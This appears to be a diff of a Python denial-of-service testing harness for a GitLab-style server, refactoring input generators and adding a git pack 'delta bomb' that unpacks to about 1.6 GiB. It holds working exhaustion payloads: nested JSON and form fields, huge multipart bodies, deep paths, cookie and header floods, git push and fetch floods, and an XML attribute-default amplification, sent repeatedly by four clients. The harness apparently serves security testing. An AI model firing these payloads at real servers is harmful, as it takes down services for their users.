@@ -2,8 +2,10 @@
 
 import base64
 import gzip
+import hashlib
 import io
-import zipfile
+import struct
+import zlib
 from collections import Counter
 from collections.abc import Awaitable, Callable, Mapping
 from itertools import count
@@ -14,11 +16,10 @@ import aiohttp
 import attrs
 import orjson
 
-from scripts.abuse import repositories
 from scripts.abuse.environment import AttackTarget, read_all, repeat, session
+from scripts.harness.contents import archive, commit_values, multipart
 
 _branches = count()
-_FILE_BOUNDARY = "files-of-a-job"
 
 
 @attrs.frozen
@@ -34,18 +35,16 @@ class Request:
 
     @property
     def size(self) -> int:
-        """All bytes that the server has to work on."""
+        """The bytes that the server has to work on."""
         return len(self.url) + len(self.body) + sum(map(len, self.headers.values())) + self.worked_on
 
     async def send(self, http: aiohttp.ClientSession) -> str:
-        """Send it and read the answer; its status."""
+        """Send it and read the answer; return its status."""
         async with http.request(
             self.method,
             self.url,
             data=io.BytesIO(self.body) if self.body else None,
-            headers={"Content-Type": "application/octet-stream", **self.headers}
-            if self.body
-            else self.headers,
+            headers=({"Content-Type": "application/octet-stream"} if self.body else {}) | dict(self.headers),
             allow_redirects=False,
         ) as answer:
             return await read_all(answer)
@@ -61,42 +60,37 @@ class Job:
     api: str
 
     def log(self, text: bytes) -> Request:
-        """The whole log in one piece."""
+        """Return the request that sends the whole log at once."""
         headers = {"JOB-TOKEN": self.token, "Content-Range": f"0-{len(text) - 1}"}
         return Request("PATCH", f"{self.api}/jobs/{self.id}/trace", text, headers)
 
     def finish(self) -> Request:
-        """Its success."""
+        """Return the request that reports success."""
         body = orjson.dumps({"token": self.token, "state": "success"})
         return Request("PUT", f"{self.api}/jobs/{self.id}", body, {"Content-Type": "application/json"})
 
     def upload(self, files: Mapping[str, str], report: str = "") -> Request:
-        """An archive of files, or a report, which is one file."""
-        content, query = _archive(files), ""
+        """Return the request that uploads an archive of files, or a report, which is one file."""
+        content, query = archive(files), ""
         if report:
             content = gzip.compress("".join(files.values()).encode())
             query = f"?artifact_type={report}&artifact_format=gzip"
-        head = (
-            f'--{_FILE_BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n'
-            "Content-Type: application/octet-stream\r\n\r\n"
-        )
-        body = head.encode() + content + f"\r\n--{_FILE_BOUNDARY}--\r\n".encode()
-        headers = {"JOB-TOKEN": self.token, "Content-Type": f"multipart/form-data; boundary={_FILE_BOUNDARY}"}
+        body, content_type = multipart(content)
+        headers = {"JOB-TOKEN": self.token, "Content-Type": content_type}
         return Request("POST", f"{self.api}/jobs/{self.id}/artifacts{query}", body, headers)
 
 
-async def running_job(place: AttackTarget, http: aiohttp.ClientSession, file: str) -> Job:
-    """The only job of a new pipeline with that CI file, running."""
-    api, project = f"{place.api_url}/api/v4", place.project(place.mine)
+async def running_job(target: AttackTarget, http: aiohttp.ClientSession, file: str) -> Job:
+    """Start a pipeline with that CI file; return its only job, running."""
+    api, project = f"{target.api_url}/api/v4", target.project(target.mine)
     branch = f"job-{next(_branches)}"
-    actions = [{"action": "create", "file_path": ".gitlab-ci.yml", "content": file}]
-    commit = {"branch": branch, "start_branch": "main", "commit_message": "Job", "actions": actions}
-    async with http.post(f"{project}/repository/commits", json=commit, headers=place.as_attacker) as answer:
+    commit = commit_values(branch, {".gitlab-ci.yml": file}, start_branch="main")
+    async with http.post(f"{project}/repository/commits", json=commit, headers=target.as_attacker) as answer:
         answer.raise_for_status()
-    async with http.get(project, headers=place.as_attacker) as answer:
+    async with http.get(project, headers=target.as_attacker) as answer:
         project_id = (await answer.json())["id"]
     runner = {"runner_type": "project_type", "project_id": project_id, "run_untagged": True}
-    async with http.post(f"{api}/user/runners", json=runner, headers=place.as_attacker) as answer:
+    async with http.post(f"{api}/user/runners", json=runner, headers=target.as_attacker) as answer:
         token = (await answer.json())["token"]
     while True:
         async with http.post(f"{api}/jobs/request", json={"token": token}) as answer:
@@ -106,17 +100,71 @@ async def running_job(place: AttackTarget, http: aiohttp.ClientSession, file: st
             return Job(given["id"], given["token"], int(variables["CI_PIPELINE_ID"]), api)
 
 
-def _archive(files: Mapping[str, str]) -> bytes:
-    file = io.BytesIO()
-    with zipfile.ZipFile(file, "w") as archive:
-        for name, text in files.items():
-            archive.writestr(name, text)
-    return file.getvalue()
+# --- packs as no git makes them (gitformat-pack(5)) ------------------------------------------------------------------
+
+_BLOB, _OFS_DELTA = 3, 6
+_COPIED = 0xFFFFFF  # the most that one instruction of a delta copies
 
 
+def pkt_line(line: bytes) -> bytes:
+    """A pkt-line."""
+    return f"{len(line) + 4:04x}".encode() + line
+
+
+def push_body(ref: str, pack: bytes) -> bytes:
+    """The body of a push that creates `ref`; what it is to point at does not exist."""
+    command = f"{'0' * 40} {'1' * 40} {ref}".encode() + b"\0 report-status\n"
+    return pkt_line(command) + b"0000" + pack
+
+
+def delta_bomb(copies: int = 100) -> bytes:
+    """A blob of 16 MiB in a few bytes, and a delta that copies it; a hundred copies are 1.6 GiB when unpacked."""
+    base = bytes(_COPIED)
+    compressed = _deflated(base)
+    instructions = b"\xf0\xff\xff\xff" * copies  # offset 0, three bytes of size
+    delta = _delta_size(len(base)) + _delta_size(_COPIED * copies) + instructions
+    first = _heading(_BLOB, len(base)) + compressed
+    second = _heading(_OFS_DELTA, len(delta)) + _offset(len(first)) + _deflated(delta)
+    body = b"PACK" + struct.pack(">II", 2, 2) + first + second
+    return body + hashlib.sha1(body, usedforsecurity=False).digest()
+
+
+def _deflated(data: bytes) -> bytes:
+    return zlib.compress(data, 9)
+
+
+def _heading(kind: int, size: int) -> bytes:
+    first, size = (kind << 4) | (size & 0x0F), size >> 4
+    heading = bytearray()
+    while size:
+        heading.append(first | 0x80)
+        first, size = size & 0x7F, size >> 7
+    return bytes([*heading, first])
+
+
+def _offset(distance: int) -> bytes:
+    reversed_digits = [distance & 0x7F]
+    while distance := distance >> 7:
+        distance -= 1
+        reversed_digits.append(0x80 | (distance & 0x7F))
+    return bytes(reversed(reversed_digits))
+
+
+def _delta_size(size: int) -> bytes:
+    digits = bytearray()
+    while size > 0x7F:
+        digits.append(0x80 | (size & 0x7F))
+        size >>= 7
+    return bytes([*digits, size])
+
+
+# --- the inputs -----------------------------------------------------------------------------------------------------
+
+#: One job, which leaves `files`.
+ARTIFACTS_CONFIG = "job:\n  script: ['true']\n  artifacts:\n    paths: [files]\n"
+_REPORT = "job:\n  script: ['true']\n  artifacts:\n    reports:\n      {}\n"
 #: What has been compiled once is remembered.
 _expressions = count()
-FORM = "application/x-www-form-urlencoded"
 _BOUNDARY = "abuse"
 
 
@@ -134,43 +182,39 @@ class Input:
     once: bool = False
 
 
-def _api(place: AttackTarget, path: str) -> str:
-    return f"{place.api_url}/api/v4{path}"
+def _api(target: AttackTarget, path: str) -> str:
+    return f"{target.api_url}/api/v4{path}"
 
 
-def _json(place: AttackTarget, path: str, value: Any, *, signed_in: bool = False) -> Request:
-    headers = {"Content-Type": "application/json"} | (place.as_attacker if signed_in else {})
-    return Request(
-        "POST", path if path.startswith("http") else _api(place, path), orjson.dumps(value), headers
-    )
+def _json(target: AttackTarget, path: str, value: Any, *, signed_in: bool = False) -> Request:
+    headers = {"Content-Type": "application/json"} | (target.as_attacker if signed_in else {})
+    url = path if path.startswith("http") else _api(target, path)
+    return Request("POST", url, orjson.dumps(value), headers)
 
 
 def _simple(largest: int, make: Callable[[AttackTarget, int], Request]) -> Input:
-    async def made(place: AttackTarget, _: aiohttp.ClientSession, number: int) -> Request:
-        return make(place, number)
+    async def made(target: AttackTarget, _: aiohttp.ClientSession, number: int) -> Request:
+        return make(target, number)
 
     return Input(largest, made)
 
 
 def _of_strangers(largest: int, path: str, value: Callable[[int], Any]) -> Input:
     """JSON without a token."""
-    return _simple(largest, lambda place, number: _json(place, path, value(number)))
+    return _simple(largest, lambda target, number: _json(target, path, value(number)))
 
 
 def _of_mine(largest: int, path: str, value: Callable[[int], Any]) -> Input:
     """JSON of an Owner to a path below her project."""
     return _simple(
-        largest,
-        lambda place, number: _json(place, place.project(place.mine) + path, value(number), signed_in=True),
+        largest, lambda target, n: _json(target, target.project(target.mine) + path, value(n), signed_in=True)
     )
 
 
 def _of_form(largest: int, path: str, text: Callable[[int], str]) -> Input:
+    headers = {"Content-Type": "application/x-www-form-urlencoded"}
     return _simple(
-        largest,
-        lambda place, number: Request(
-            "POST", place.api_url + path, text(number).encode(), {"Content-Type": FORM}
-        ),
+        largest, lambda target, n: Request("POST", target.api_url + path, text(n).encode(), headers)
     )
 
 
@@ -181,9 +225,7 @@ def _get(
 ) -> Input:
     return _simple(
         largest,
-        lambda place, number: Request(
-            "GET", path(place, number), b"", {**place.as_attacker, **headers(number)}
-        ),
+        lambda target, n: Request("GET", path(target, n), headers={**target.as_attacker, **headers(n)}),
     )
 
 
@@ -191,114 +233,107 @@ def _lint(largest: int, file: Callable[[int], str]) -> Input:
     return _of_mine(largest, "/ci/lint", lambda number: {"content": file(number)})
 
 
-def _multipart(place: AttackTarget, number: int) -> Request:
+def _multipart(target: AttackTarget, number: int) -> Request:
     part = f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n'
     headers = {"Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"}
     body = part * number + f"--{_BOUNDARY}--\r\n"
-    return Request("POST", f"{place.api_url}/-/sign_in", body.encode(), headers)
+    return Request("POST", f"{target.api_url}/-/sign_in", body.encode(), headers)
 
 
-def _git(place: AttackTarget, service: str, body: bytes) -> Request:
-    credentials = base64.b64encode(f"attacker:{place.attacker}".encode()).decode()
-    headers = {
-        "Authorization": f"Basic {credentials}",
-        "Content-Type": f"application/x-git-{service}-request",
-    }
-    return Request("POST", f"{place.api_url}/{place.mine}.git/git-{service}", body, headers)
+def _git(target: AttackTarget, service: str, body: bytes) -> Request:
+    credentials = base64.b64encode(f"attacker:{target.attacker}".encode()).decode()
+    content_type = f"application/x-git-{service}-request"
+    headers = {"Authorization": f"Basic {credentials}", "Content-Type": content_type}
+    return Request("POST", f"{target.api_url}/{target.mine}.git/git-{service}", body, headers)
 
 
-def _push(place: AttackTarget, number: int) -> Request:
+def _push(target: AttackTarget, number: int) -> Request:
     commands = [f"{'0' * 40} {index:040x} refs/heads/{'a/' * 20}{index}" for index in range(1, number + 1)]
     first, *others = (command.encode() for command in commands)
     lines = [first + b"\0 report-status\n", *(other + b"\n" for other in others)]
-    return _git(place, "receive-pack", b"".join(map(repositories.pkt_line, lines)) + b"0000")
+    return _git(target, "receive-pack", b"".join(map(pkt_line, lines)) + b"0000")
 
 
-def _fetch(place: AttackTarget, number: int) -> Request:
-    lines = b"".join(repositories.pkt_line(f"want {index:040x}\n".encode()) for index in range(1, number + 1))
-    return _git(place, "upload-pack", lines + b"0000" + repositories.pkt_line(b"done\n"))
+def _fetch(target: AttackTarget, number: int) -> Request:
+    lines = b"".join(pkt_line(f"want {index:040x}\n".encode()) for index in range(1, number + 1))
+    return _git(target, "upload-pack", lines + b"0000" + pkt_line(b"done\n"))
 
 
-def _lfs(place: AttackTarget, number: int) -> Request:
-    request = _git(place, "upload-pack", b"")
+def _lfs(target: AttackTarget, number: int) -> Request:
+    request = _git(target, "upload-pack", b"")
     objects = [{"oid": f"{index:064x}", "size": 1} for index in range(number)]
     body = orjson.dumps({"operation": "download", "objects": objects})
     headers = {**request.headers, "Content-Type": "application/vnd.git-lfs+json"}
-    return Request("POST", f"{place.api_url}/{place.mine}.git/info/lfs/objects/batch", body, headers)
+    return Request("POST", f"{target.api_url}/{target.mine}.git/info/lfs/objects/batch", body, headers)
 
 
-async def _masked_log(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
+async def _masked_log(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """Secrets that begin alike, and a log of their beginnings."""
-    project = place.project(place.mine)
+    project = target.project(target.mine)
     for key, value in (("SHORT", "b" * 8), ("LONG", "a" * 9990 + "0" * 8)):
         body = {"key": key, "value": value, "masked": True}
-        async with http.post(f"{project}/variables", json=body, headers=place.as_attacker) as answer:
+        async with http.post(f"{project}/variables", json=body, headers=target.as_attacker) as answer:
             await answer.read()  # 400 where it is there already
-    job = await running_job(place, http, "job:\n  script: ['true']\n")
+    job = await running_job(target, http, "job:\n  script: ['true']\n")
     return job.log(b"a" * number)
 
 
-async def _coverage(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
+async def _coverage(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """A line of digits, in which the last match is looked for when the job ends."""
-    job = await running_job(place, http, "job:\n  coverage: '/\\d/'\n  script: ['true']\n")
+    job = await running_job(target, http, "job:\n  coverage: '/\\d/'\n  script: ['true']\n")
     await job.log(b"1" * number).send(http)
     return attrs.evolve(job.finish(), worked_on=number)
 
 
-async def _test_report(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
+async def _test_report(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """A default value of an attribute that each test case would have."""
-    file = "job:\n  script: ['true']\n  artifacts:\n    reports:\n      junit: report.xml\n"
-    job = await running_job(place, http, file)
+    job = await running_job(target, http, _REPORT.format("junit: report.xml"))
     document = f'<!DOCTYPE testsuites [<!ATTLIST testcase classname CDATA "{"a" * 100 * number}">]>'
     cases = '<testcase name="a"/>' * number
     document += f"<testsuites><testsuite>{cases}</testsuite></testsuites>"
     await job.upload({"report.xml": document}, "junit").send(http)
     await job.finish().send(http)
-    return _report_of(place, job, len(document))
+    return _report_of(target, job, len(document))
 
 
-def _report_of(place: AttackTarget, job: Job, worked_on: int) -> Request:
-    url = f"{place.project(place.mine)}/pipelines/{job.pipeline}/test_report"
-    return Request("GET", url, b"", place.as_attacker, worked_on)
+def _report_of(target: AttackTarget, job: Job, worked_on: int) -> Request:
+    url = f"{target.project(target.mine)}/pipelines/{job.pipeline}/test_report"
+    return Request("GET", url, b"", target.as_attacker, worked_on)
 
 
-async def _names_of_jobs(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
+async def _names_of_jobs(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """A name that the expression for parts of a job (`name 1/2`) tries at each of its characters."""
-    file = f"'{'1 ' * (number // 2)}x':\n  script: ['true']\n  artifacts:\n    reports:\n      junit: report.xml\n"
-    job = await running_job(place, http, file)
+    file = _REPORT.format("junit: report.xml").replace("job", f"'{'1 ' * (number // 2)}x'", 1)
+    job = await running_job(target, http, file)
     await job.upload({"report.xml": "<testsuites/>"}, "junit").send(http)
     await job.finish().send(http)
-    return _report_of(place, job, number)
+    return _report_of(target, job, number)
 
 
-async def _artifact_members(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
+async def _artifact_members(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """A look at one folder of an archive of very many files, by a stranger."""
-    file = "job:\n  script: ['true']\n  artifacts:\n    paths: [files]\n"
-    job = await running_job(place, http, file)
+    job = await running_job(target, http, ARTIFACTS_CONFIG)
     upload = job.upload({f"files/{index:06}.txt": "x" for index in range(number)})
     await upload.send(http)
     await job.finish().send(http)
-    url = f"{place.api_url}/{place.mine}/-/jobs/{job.id}/artifacts/browse/files"
+    url = f"{target.api_url}/{target.mine}/-/jobs/{job.id}/artifacts/browse/files"
     return Request("GET", url, worked_on=upload.size)
 
 
-async def _dotenv(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    file = "job:\n  script: ['true']\n  artifacts:\n    reports:\n      dotenv: build.env\n"
-    job = await running_job(place, http, file)
+async def _dotenv(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
+    job = await running_job(target, http, _REPORT.format("dotenv: build.env"))
     return job.upload({"build.env": "".join(f"A{index}=b\n" for index in range(number))}, "dotenv")
 
 
-def _edge_file(place: AttackTarget, _: int = 0) -> str:
-    return f"{place.edge_url}/{place.public}/-/raw/main/src/1/1.txt"
+def _edge_file(target: AttackTarget, _: int = 0) -> str:
+    return f"{target.edge_url}/{target.public}/-/raw/main/src/1/1.txt"
 
 
 #: By name, as the command line and docs/security.md have them.
 INPUTS: dict[str, Input] = {
     "list-items": _of_strangers(50_000, "/runners", lambda n: {"token": "x", "tag_list": [{}] * n}),
     "list-objects": _of_mine(
-        50_000,
-        "/repository/commits",
-        lambda n: {"branch": "a", "commit_message": "b", "actions": [{}] * n},
+        50_000, "/repository/commits", lambda n: {"branch": "a", "commit_message": "b", "actions": [{}] * n}
     ),
     "comma-separated": _of_mine(
         50_000, "/invitations", lambda n: {"access_level": 10, "user_id": "x," * n + "x"}
@@ -308,51 +343,41 @@ INPUTS: dict[str, Input] = {
     "form-nesting": _of_form(20_000, "/api/v4/runners", lambda n: f"info{'[a]' * n}=b"),
     "json-nesting": _simple(
         400_000,
-        lambda place, n: Request(
-            "POST", _api(place, "/runners"), b"[" * n, {"Content-Type": "application/json"}
+        lambda target, n: Request(
+            "POST", _api(target, "/runners"), b"[" * n, {"Content-Type": "application/json"}
         ),
     ),
     "json-keys": _of_strangers(20_000, "/runners", lambda n: {f"a{i}": 1 for i in range(n)}),
     "multipart-parts": _simple(1_000, _multipart),
-    "deep-path": _get(3_800, lambda place, n: f"{place.api_url}{'/a' * n}"),
-    "deep-api-path": _get(3_800, lambda place, n: _api(place, f"/projects/1/repository/tree{'/a' * n}")),
+    "deep-path": _get(3_800, lambda target, n: f"{target.api_url}{'/a' * n}"),
+    "deep-api-path": _get(3_800, lambda target, n: _api(target, f"/projects/1/repository/tree{'/a' * n}")),
     "query-fields": _get(
-        1_900, lambda place, n: _api(place, "/projects?") + "&".join(f"a{i % 10}=" for i in range(n))
+        1_900, lambda target, n: _api(target, "/projects?") + "&".join(f"a{i % 10}=" for i in range(n))
     ),
     "cookies": _get(
         1_900,
-        lambda place, _: f"{place.api_url}/-/sign_in",
+        lambda target, _: f"{target.api_url}/-/sign_in",
         lambda n: {"Cookie": "; ".join(f"a{i % 10}=" for i in range(n))},
     ),
     "tree-path": _get(
-        3_000, lambda place, n: f"{place.project(place.public)}/repository/tree?path={'a/' * n}a"
+        3_000, lambda target, n: f"{target.project(target.public)}/repository/tree?path={'a/' * n}a"
     ),
     "ref-name": _get(
-        3_000, lambda place, n: f"{place.project(place.public)}/repository/commits/{quote('a/' * n + 'a')}"
+        3_000, lambda target, n: f"{target.project(target.public)}/repository/commits/{quote('a/' * n + 'a')}"
     ),
-    "raw-path": _get(3_000, lambda place, n: f"{place.api_url}/{place.public}/-/raw/main/{'a/' * n}a"),
+    "raw-path": _get(3_000, lambda target, n: f"{target.api_url}/{target.public}/-/raw/main/{'a/' * n}a"),
     "push-commands": _simple(20_000, _push),
     "fetch-wants": _simple(40_000, _fetch),
     "lfs-objects": _simple(40_000, _lfs),
     "deep-files": _of_mine(
         1_000,
         "/repository/commits",
-        lambda n: {
-            "branch": "main",
-            "commit_message": "a",
-            "actions": [
-                {"action": "create", "file_path": f"{i}/{'a/' * 1_000}a", "content": ""} for i in range(n)
-            ],
-        },
+        lambda n: commit_values("main", {f"{i}/{'a/' * 1_000}a": "" for i in range(n)}),
     ),
     "commit-message": _of_mine(
         4_000_000,
         "/repository/commits",
-        lambda n: {
-            "branch": "main",
-            "commit_message": "a\n" * (n // 2),
-            "actions": [{"action": "update", "file_path": "README.md", "content": "a"}],
-        },
+        lambda n: commit_values("main", {"README.md": "a"}, action="update", message="a\n" * (n // 2)),
     ),
     "masked-log": Input(256 * 1024, _masked_log, once=True),
     "coverage": Input(128 * 1024, _coverage, once=True),
@@ -400,19 +425,19 @@ INPUTS: dict[str, Input] = {
     "edge-tags": _get(3_000, _edge_file, lambda n: {"If-None-Match": '"a' * n}),
     "edge-directives": _get(3_000, _edge_file, lambda n: {"Cache-Control": 'a="' * n}),
     "edge-codings": _get(3_000, _edge_file, lambda n: {"Accept-Encoding": "a;q=0," * (n // 2)}),
-    "edge-path": _get(3_000, lambda place, n: f"{place.edge_url}/a{'/-/raw' * (n // 6)}/main/a"),
-    "edge-query": _get(3_000, lambda place, n: f"{_edge_file(place)}?{'inline=true&' * (n // 12)}"),
+    "edge-path": _get(3_000, lambda target, n: f"{target.edge_url}/a{'/-/raw' * (n // 6)}/main/a"),
+    "edge-query": _get(3_000, lambda target, n: f"{_edge_file(target)}?{'inline=true&' * (n // 12)}"),
 }
 
 
-async def attack(name: str, place: AttackTarget, answers: "Counter[str]") -> None:
-    """Four clients, each of which sends the largest form of the input again and again."""
-    given = INPUTS[name]
+async def send_input(name: str, target: AttackTarget, answers: "Counter[str]") -> None:
+    """Have four clients send the largest form of the input again and again."""
+    source = INPUTS[name]
     async with session() as http:
-        made = None if given.once else await given.make(place, http, given.largest)
+        made = None if source.once else await source.make(target, http, source.largest)
 
         async def send(_number: int) -> str:
-            request = made or await given.make(place, http, given.largest)
+            request = made or await source.make(target, http, source.largest)
             return await request.send(http)
 
         await repeat(4, send, answers)
